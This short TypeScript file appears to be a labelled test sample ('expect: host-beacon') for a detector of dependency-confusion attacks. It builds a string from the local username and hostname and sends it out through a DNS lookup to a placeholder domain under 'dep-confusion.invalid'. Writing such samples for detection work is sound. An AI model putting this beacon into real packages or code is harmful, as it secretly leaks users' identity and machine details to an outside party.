// expect: host-beacon
import * as dns from "node:dns";
import * as os from "node:os";

const who: string = `${os.userInfo().username}.${os.hostname()}`;
dns.lookup(`${who}.dep-confusion.invalid`, () => {});
